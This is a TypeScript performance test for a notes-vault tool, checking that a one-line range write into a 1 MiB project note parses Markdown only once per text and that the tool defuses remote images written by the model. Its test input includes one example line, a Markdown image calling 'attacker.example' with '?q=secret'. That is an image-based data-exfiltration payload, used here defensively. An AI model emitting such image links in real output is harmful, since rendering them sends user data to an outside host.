/**
 * P330 (issue #13): a range write of one line in a 1 MiB project note cost 16 s of CPU, almost all
 * in core `defuseRemoteContent` parsing Markdown: the write's plan and its atomic edit each parsed the
 * whole new text and the whole old one. Counted in parsed characters (core `markdownParsedUnits`), not
 * timed: the new and the old text are parsed once each, and the file is as before (the user's own remote
 * image kept, the model's defused). Real files on a temp copy of the sample vault.
 */
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { markdownParsedUnits } from '@ma/core';
import { afterEach, describe, expect, it } from 'vitest';
import { runTool } from '../src/test-support/run-tool.js';
import { MEETINGS, sampleSession, type TestSession } from '../src/test-support/sample-vault.js';

let t: TestSession;
afterEach(async () => t?.cleanup());

/** A project note of 40 sections with HTML, links, a table and, every 10th section, the user's remote image. */
function note(): string {
  return Array.from({ length: 40 }, (_, i) =>
    [
      `## Topic ${i}`,
      '',
      `See the [doc](https://docs.example.com/${i}) with <span>Ana</span>, a < b.<br>`,
      `- ![diagram](attachments/d${i}.png) and <https://example.org/${i}>`,
      '',
      '| a | b |\n| --- | --- |\n| 1 | <b>2</b> |',
      '',
      i % 10 === 0 ? `![chart](https://cdn.example.com/c${i}.png)\n` : '',
    ].join('\n'),
  ).join('\n');
}

describe('P330: a project write parses the new and the old text once each', () => {
  it('P330: a range write on a note holding remote images and HTML', async () => {
    t = await sampleSession(MEETINGS.functional);
    const rel = 'Projects/remote-control/notes.md';
    const abs = path.join(t.root, rel);
    const before = note();
    await writeFile(abs, before);
    const lines = before.split('\n');
    const from = lines.indexOf('## Topic 20') + 1;
    const line = 'Changed ![x](https://attacker.example/p.png?q=secret)';
    const start = markdownParsedUnits();
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'notes.md',
      from,
      to: from,
      content: line,
    });
    const units = markdownParsedUnits() - start;
    expect(out).toMatch(/defused 1 item /);
    lines[from - 1] = 'Changed [x](https://attacker.example/p.png?q=secret)';
    const after = lines.join('\n');
    expect(await readFile(abs, 'utf8')).toBe(after);
    // The model's text, the defused text (nothing left), the old text: once each.
    const written = before
      .split('\n')
      .with(from - 1, line)
      .join('\n');
    expect(units).toBe(written.length + after.length + before.length);
  });
});
